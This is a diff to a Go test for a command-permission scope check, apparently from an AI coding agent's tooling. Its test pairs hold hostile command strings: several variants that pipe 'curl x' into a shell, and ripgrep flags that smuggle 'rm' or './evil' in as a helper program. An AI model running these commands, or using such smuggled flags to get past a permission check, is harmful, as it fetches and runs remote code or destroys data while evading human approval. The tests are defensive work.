@@ -216,6 +216,8 @@ func TestAlwaysScope_NeverBroaderThanShown(t *testing.T) {
 		{"sed -n 1,20p a.go", "sed -n '1e curl x|sh' a.go"},
 		{"awk '{print $1}' a.txt", `awk 'BEGIN{system("curl x|sh")}' a.txt`},
 		{"docker exec c sh -c 'ls'", "docker exec c sh -c 'curl x|sh'"},
+		{"rg --pre pdftotext x docs", "rg --pre rm x docs"}, // rg runs it on every file it searches
+		{"rg --hostname-bin hostname x", "rg --hostname-bin ./evil x"},
 	}
 	for _, tt := range tests {
 		if AlwaysScope("Bash", tt.allowed) == AlwaysScope("Bash", tt.later) {
